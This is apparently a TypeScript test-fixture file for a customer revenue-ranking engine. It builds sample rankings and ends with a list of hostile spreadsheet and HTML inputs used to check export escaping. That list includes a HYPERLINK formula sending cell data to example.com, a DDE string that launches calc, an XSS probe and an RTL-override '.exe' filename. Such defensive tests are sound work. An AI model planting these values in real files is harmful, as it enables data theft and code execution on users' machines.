import { type ClassLimits, type ClassSplit, firstClassLimits } from '../../../shared/ranking/class-rule.ts';
import { rankCustomers } from '../../../shared/ranking/rank-customers.ts';
import { type LeftOut, pyramidLimits, type RevenueRanking, type TierLimits } from '../../../shared/ranking/ranking.ts';

/** A ranking as the engine makes it, over customers given by name and net. */
export function sampleRanking(
  customers: readonly { name: string; netMinor: number; number?: string; lastDay?: string }[],
  {
    currency = 'CNY',
    top = 50,
    split = 'count',
    limits = firstClassLimits[split],
    tierLimits = pyramidLimits,
    leftOut = [],
  }: {
    currency?: string;
    top?: number;
    split?: ClassSplit;
    limits?: ClassLimits;
    tierLimits?: TierLimits;
    leftOut?: readonly LeftOut[];
  } = {},
): RevenueRanking {
  const figures = customers.map((customer, index) => ({
    customerId: index + 1,
    number: String(10_001 + index),
    lastDay: `2026-${String((index % 9) + 1).padStart(2, '0')}-15`,
    orders: (index % 7) + 1,
    ...customer,
  }));
  const byId = <Value>(figureOf: (one: (typeof figures)[number]) => Value) =>
    Object.fromEntries(figures.map((one) => [one.customerId, figureOf(one)]));
  const columns = {
    customerIds: figures.toSorted(byNumber).map(({ customerId }) => customerId),
    netsMinor: byId(({ netMinor }) => netMinor),
    orders: byId(({ orders }) => orders),
    lastDays: byId(({ lastDay }) => lastDay),
  };
  return {
    from: '2025-11-23',
    to: '2026-11-22',
    asOf: '2026-11-22',
    asOfReason: 'today',
    currency,
    top,
    split,
    limits,
    narrowing: {},
    customers: figures.length,
    net: { minor: figures.reduce((sum, { netMinor }) => sum + netMinor, 0), currency },
    walkInNet: leftOut.find(({ reason }) => reason === 'walkIn')?.net ?? { minor: 0, currency },
    leftOut,
    coverage: { days: 365, covered: 365 },
    firstOrderDay: '2024-01-02',
    lastOrderDay: '2026-11-20',
    before: { from: '2024-11-23', to: '2025-11-22', days: 365, covered: 365 },
    rows: rankCustomers(columns, { currency, top, split, limits, tierLimits }).map((row) => {
      const { number, name } = figures[row.customerId - 1] ?? { number: '', name: '' };
      return { ...row, number, name, group: undefined };
    }),
  };
}

/** Of three customers: one rose, one is new, one had only returns; of the period before only nine days are there. */
export function comparedRanking(): RevenueRanking {
  const before = { from: '2024-11-23', to: '2025-11-22', days: 365, covered: 9 };
  const ranking = sampleRanking([
    { name: 'Rose', netMinor: 100_00 },
    { name: 'New', netMinor: 50_00 },
    { name: 'Returned', netMinor: 10_00 },
  ]);
  const net = (minor: number) => ({ minor, currency: ranking.currency });
  const standings = [{ rank: 2, net: net(60_00) }, null, { rank: null, net: net(-5_00) }];
  return {
    ...ranking,
    firstOrderDay: '2025-11-14',
    before,
    comparison: { ...before, customers: 2, net: net(90_00) },
    rows: ranking.rows.map((row, index) => ({ ...row, before: standings[index] ?? null })),
  };
}

function byNumber(a: { number: string }, b: { number: string }): number {
  return a.number < b.number ? -1 : 1;
}

/** Nets that fall off as those of real shops do, with cents that no binary fraction holds exactly. */
export function fallingNets(count: number): { name: string; netMinor: number }[] {
  return Array.from({ length: count }, (_, index) => ({
    name: `Customer ${index + 1}`,
    netMinor: Math.floor(98_765_431 / (index + 1) ** 1.1) + (index % 97),
  }));
}

export const sampleOrigin = {
  archiveName: 'Tea & Paper',
  madeAt: Date.UTC(2026, 10, 22, 8, 2),
  appVersion: '0.1.0',
  imports: [
    { fileName: 'orders 2026.csv', day: '2026-11-20', rows: 12_345 },
    { fileName: '=1+2.csv', day: '2026-11-21', rows: 7 },
  ],
};

/** Names that spreadsheet programs would run, mangle or take for something else (faults 58, 60). */
export const hostileTexts = [
  '=HYPERLINK("http://example.com/?x="&A1,"Click")',
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '@SUM(A1)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '  =1+2',
  '＝1+2',
  '";=1+2',
  "'=1+2",
  "''=1+2",
  '+86 138-0013-8000',
  '00123',
  '1.23E+15',
  '2026-03-04',
  'TRUE',
  '#N/A',
  '#VALUE!',
  '_x0041_',
  '<img src=x onerror=alert(1)>',
  '{=SUM(A1)}',
  '👩‍👩‍👧 Café ☕',
  'שלום עולם',
  '\u202Egpj.exe',
  '欧阳修，"六一居士"',
];
